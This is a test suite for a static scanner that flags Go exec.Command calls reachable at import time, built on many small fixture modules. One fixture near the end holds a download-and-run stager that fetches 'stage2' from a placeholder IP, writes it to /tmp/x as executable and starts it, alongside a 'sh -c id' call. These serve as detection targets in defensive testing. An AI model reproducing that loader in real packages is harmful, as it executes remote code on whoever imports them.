import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadRules } from '../src/static/rules/load.js';
import { collectPackages, scanModule } from '../src/static/scan.js';
import { scanPackage } from '../src/static/scan-worker.js';
import { ScanCache } from '../src/static/scan-cache.js';
import type { Finding } from '../src/result/schema.js';
import { makeModule } from './helpers/modules.js';

const root = fileURLToPath(new URL('../../', import.meta.url));
const rules = loadRules([join(root, 'test', 'fixtures', 'rules', 'good')]);

// Each exec.Command names the function it is in, so a finding says which code it is.
const MODULE = {
  'go.mod': 'module example.test/m\n',
  'a.go': 'package m\n\nimport "example.test/m/internal/sys"\n\nfunc init() {\n\tsys.Prepare()\n}\n',
  'internal/sys/sys.go':
    'package sys\n\nimport (\n\t"os/exec"\n\n\t"example.test/m/internal/deep"\n)\n\nfunc Prepare() { go run() }\n\nfunc run() {\n\texec.Command("run").Run()\n\tdeep.Go()\n}\n\nfunc Other() { exec.Command("other").Run() }\n',
  'internal/deep/deep.go': 'package deep\n\nimport "os/exec"\n\nfunc Go() { exec.Command("deep").Run() }\n',
  // A closure stored for later and an ordinary function: the calls in them do not run at import time.
  'b.go':
    'package m\n\nimport "example.test/m/lazy"\n\ntype Cmd struct{ Run func() }\n\nvar cmd = &Cmd{Run: func() { lazy.Later() }}\n\nfunc Normal() { lazy.Now() }\n',
  'lazy/lazy.go': 'package lazy\n\nimport "os/exec"\n\nfunc Later() { exec.Command("later").Run() }\n\nfunc Now() { exec.Command("now").Run() }\n',
  // Nobody imports a package main, and a test's init runs only in the module's own tests.
  'cmd/tool/main.go': 'package main\n\nimport "example.test/m/tooling"\n\nfunc init() { tooling.Setup() }\n\nfunc main() {}\n',
  'tooling/tooling.go': 'package tooling\n\nimport "os/exec"\n\nfunc Setup() { exec.Command("setup").Run() }\n',
  'a_test.go': 'package m\n\nimport "example.test/m/testonly"\n\nfunc init() { testonly.Boot() }\n',
  'testonly/testonly.go': 'package testonly\n\nimport "os/exec"\n\nfunc Boot() { exec.Command("boot").Run() }\n',
  // A package with nothing to find passes the call on (its own rules do not run again).
  'e.go': 'package m\n\nimport "example.test/m/mid"\n\nfunc init() { mid.Setup() }\n',
  'mid/mid.go': 'package mid\n\nimport "example.test/m/leaf"\n\nfunc Setup() { leaf.Run() }\n',
  'leaf/leaf.go': 'package leaf\n\nimport "os/exec"\n\nfunc Run() { exec.Command("leaf").Run() }\n',
  // Methods called on values made with another package: followed when one type declares the name.
  'f.go': 'package m\n\nimport "example.test/m/agent"\n\nfunc init() {\n\ta, _ := agent.New()\n\ta.Start()\n\tagent.Make().Launch()\n\tb := &agent.Box{}\n\tb.Close()\n}\n',
  'agent/agent.go':
    'package agent\n\nimport "os/exec"\n\ntype Agent struct{}\n\ntype Box struct{}\n\ntype Other struct{}\n\nfunc New() (*Agent, error) { return &Agent{}, nil }\n\nfunc Make() *Agent { return &Agent{} }\n\nfunc (a *Agent) Start() { exec.Command("astart").Run() }\n\nfunc (a *Agent) Launch() { exec.Command("arun").Run() }\n\nfunc (a *Agent) Idle() { exec.Command("idle").Run() }\n\nfunc (b *Box) Close() { exec.Command("close1").Run() }\n\nfunc (o *Other) Close() { exec.Command("close2").Run() }\n',
  // A method called on a package var made with another package.
  'h.go': 'package m\n\nimport "example.test/m/svc"\n\nvar (\n\tdefaultSvc = svc.New()\n\tother int\n)\n\nfunc init() { defaultSvc.Serve() }\n',
  'svc/svc.go': 'package svc\n\nimport "os/exec"\n\ntype S struct{}\n\nfunc New() *S { return &S{} }\n\nfunc (s *S) Serve() { exec.Command("serve").Run() }\n\nfunc (s *S) Stop() { exec.Command("stop").Run() }\n',
  // The function called is a func literal in a package var.
  'k.go': 'package m\n\nimport "example.test/m/varfn"\n\nfunc init() { varfn.Boot() }\n',
  'varfn/varfn.go': 'package varfn\n\nimport "os/exec"\n\nvar Boot = func() { exec.Command("varboot").Run() }\n',
  // A dot import: a bare call names the package's function.
  'g.go': 'package m\n\nimport . "example.test/m/dotted"\n\nfunc init() { Wake() }\n',
  'dotted/dotted.go': 'package dotted\n\nimport "os/exec"\n\nfunc Wake() { exec.Command("wake").Run() }\n',
  // A closure handed to a registry is kept for later; one started on the spot runs now.
  'd.go':
    'package m\n\nimport "example.test/m/reg"\n\nfunc register(name string, f func()) {}\n\nfunc init() {\n\tregister("x", func() { reg.Build() })\n\tgo func() { reg.Beacon() }()\n}\n',
  'reg/reg.go': 'package reg\n\nimport "os/exec"\n\nfunc Build() { exec.Command("build").Run() }\n\nfunc Beacon() { exec.Command("beacon").Run() }\n',
  // Handed to a standard library call that runs it: a function value, a closure; a registry keeps it.
  'r.go':
    'package m\n\nimport (\n\t"net/http"\n\t"time"\n\n\t"example.test/m/timed"\n)\n\nfunc init() {\n\ttime.AfterFunc(time.Second, timed.Fire)\n\ttime.AfterFunc(time.Minute, func() { timed.Later() })\n\thttp.HandleFunc("/", timed.Serve)\n}\n',
  'timed/timed.go':
    'package timed\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\nfunc Fire() { exec.Command("fire").Run() }\n\nfunc Later() { exec.Command("timedlater").Run() }\n\nfunc Serve(w http.ResponseWriter, r *http.Request) { exec.Command("serveh").Run() }\n',
  // A method on another package's var (`pkgvar.Default.Start()`); its other methods stay ordinary.
  'p.go': 'package m\n\nimport "example.test/m/pkgvar"\n\nfunc init() { pkgvar.Default.Begin() }\n',
  'pkgvar/pkgvar.go':
    'package pkgvar\n\nimport "os/exec"\n\ntype A struct{}\n\nvar Default = &A{}\n\nfunc (a *A) Begin() { exec.Command("begin").Run() }\n\nfunc (a *A) End() { exec.Command("end").Run() }\n',
  // A caller that only a tagged build compiles (a fuzz harness's init) makes no entry.
  'fz.go': '//go:build gofuzz\n\npackage m\n\nimport "example.test/m/fuzzed"\n\nfunc init() { fuzzed.Serve() }\n',
  'fuzzed/fuzzed.go': 'package fuzzed\n\nimport "os/exec"\n\nfunc Serve() { exec.Command("fuzzserve").Run() }\n',
  // A test harness package's init (no built package imports it) makes no entry either.
  'test/e2e/fixture/fixture.go': 'package fixture\n\nimport "example.test/m/apiclient"\n\nfunc init() { apiclient.Connect() }\n',
  'apiclient/apiclient.go': 'package apiclient\n\nimport "os/exec"\n\nfunc Connect() { exec.Command("connect").Run() }\n',
  // Called only behind an init's env gate: gated; called without one as well: not.
  'gt.go': 'package m\n\nimport (\n\t"os"\n\n\t"example.test/m/gated"\n)\n\nfunc init() {\n\tif os.Getenv("M_OPT_IN") == "1" {\n\t\tgated.Run()\n\t\tgated.Both()\n\t}\n}\n',
  'gu.go': 'package m\n\nimport "example.test/m/gated"\n\nfunc init() { gated.Both() }\n',
  'gated/gated.go': 'package gated\n\nimport "os/exec"\n\nfunc Run() { exec.Command("gatedrun").Run() }\n\nfunc Both() { exec.Command("gatedboth").Run() }\n',
  // An aliased import called from a package-level initializer.
  'c.go': 'package m\n\nimport s2 "example.test/m/aliased"\n\nvar _ = s2.Start()\n',
  'aliased/aliased.go': 'package aliased\n\nimport "os/exec"\n\nfunc Start() error { return exec.Command("start").Run() }\n',
};

function placed(findings: Finding[]): string[] {
  return findings
    .filter((f) => f.ruleId === 'fx-exec-command')
    .map((f) => `${f.snippet.match(/"(\w+)"/)?.[1]}:${f.context}${f.importTimeCaller ? ` <- ${f.importTimeCaller.file}:${f.importTimeCaller.line} ${f.importTimeCaller.function}` : ''}${f.envGate ? ` [${f.envGate}]` : ''}`)
    .sort();
}

const EXPECTED = [
  'arun:reachable-from-init <- f.go:8 Agent.Launch',
  'astart:reachable-from-init <- f.go:7 Agent.Start',
  'beacon:reachable-from-init <- d.go:9 Beacon',
  'begin:reachable-from-init <- p.go:5 A.Begin',
  'boot:function',
  'build:function',
  'close1:function',
  'close2:function',
  'connect:function',
  'deep:reachable-from-init <- internal/sys/sys.go:13 Go',
  'end:function',
  'fire:reachable-from-init <- r.go:11 Fire',
  'fuzzserve:function',
  'gatedboth:reachable-from-init <- gu.go:5 Both',
  'gatedrun:reachable-from-init <- gt.go:11 Run [if os.Getenv("M_OPT_IN") == "1" {...}]',
  'idle:function',
  'later:function',
  'leaf:reachable-from-init <- mid/mid.go:5 Run',
  'now:function',
  'other:function',
  'run:reachable-from-init <- a.go:6 Prepare',
  'serve:reachable-from-init <- h.go:10 S.Serve',
  'serveh:function',
  'setup:function',
  'start:reachable-from-init <- c.go:5 Start',
  'stop:function',
  'timedlater:reachable-from-init <- r.go:12 Later',
  'varboot:reachable-from-init <- k.go:5 Boot',
  'wake:reachable-from-init <- g.go:5 Wake',
];

test('a function another package of the module calls at import time runs at import time, through a chain of packages', async () => {
  const dir = makeModule(MODULE);
  try {
    const result = await scanModule(dir, { rules, workers: 0 });
    assert.deepEqual(placed(result.findings), EXPECTED);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the worker pool and the scan cache place import-time entries as the inline scan does', async () => {
  const files: Record<string, string> = { ...MODULE };
  for (let i = 0; i < 45; i++) files[`filler/f${i}.go`] = `package filler\n\nfunc F${i}() {}\n`;
  const dir = makeModule(files);
  const cacheDir = makeModule({});
  try {
    const cache = new ScanCache(cacheDir, rules.hash);
    const pooled = await scanModule(dir, { rules, workers: 2, cache });
    assert.deepEqual(placed(pooled.findings), EXPECTED);
    const warm = await scanModule(dir, { rules, workers: 2, cache });
    assert.deepEqual(warm.findings, pooled.findings);
  } finally {
    rmSync(dir, { recursive: true, force: true });
    rmSync(cacheDir, { recursive: true, force: true });
  }
});

test('a module without a path in go.mod scans each package on its own', async () => {
  const files: Record<string, string> = { ...MODULE, 'go.mod': 'go 1.22\n' };
  const dir = makeModule(files);
  try {
    const result = await scanModule(dir, { rules, workers: 0 });
    assert.ok(placed(result.findings).every((p) => !p.includes('<-')));
    assert.equal(placed(result.findings).find((p) => p.startsWith('run:')), 'run:function');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('placing a package again for its entries gives what a whole new scan with those entries gives', async () => {
  const pack = loadRules([join(root, 'rules')]);
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'sys/sys.go':
      'package sys\n\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\n\nfunc Prepare() { go fetch("http://203.0.113.7:8080/stage2") }\n\nfunc fetch(u string) {\n\tresp, err := http.Get(u)\n\tif err != nil {\n\t\treturn\n\t}\n\tb, _ := io.ReadAll(resp.Body)\n\tos.WriteFile("/tmp/x", b, 0o755)\n\texec.Command("/tmp/x").Start()\n}\n\nfunc Unused() { exec.Command("sh", "-c", "id").Run() }\n',
  });
  try {
    const task = collectPackages(dir)[0]!;
    task.modulePath = 'example.test/m';
    const first = await scanPackage(task, pack);
    assert.ok(first.movable && first.movable.length >= 3, JSON.stringify(first.movable?.map((m) => m.finding.ruleId)));
    const entries = [{ path: 'example.test/m/sys', name: 'Prepare', file: 'a.go', line: 6 }];
    const again = await scanPackage({ ...task, entries, placeOnly: first.movable }, pack);
    const whole = await scanPackage({ ...task, entries }, pack);
    const key = (f: Finding) => `${f.ruleId}:${f.line}:${f.context}:${f.importTimeCaller?.function ?? ''}`;
    const merged = first.findings.filter((f) => f.context !== 'function').concat(again.findings);
    assert.deepEqual(merged.map(key).sort(), whole.findings.map(key).sort());
    assert.ok(whole.findings.some((f) => f.ruleId === 'import-time-exec' && f.importTimeCaller?.function === 'Prepare'));
    assert.ok(whole.findings.some((f) => f.function === 'Unused' && f.context === 'function'), JSON.stringify(whole.findings.map(key)));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
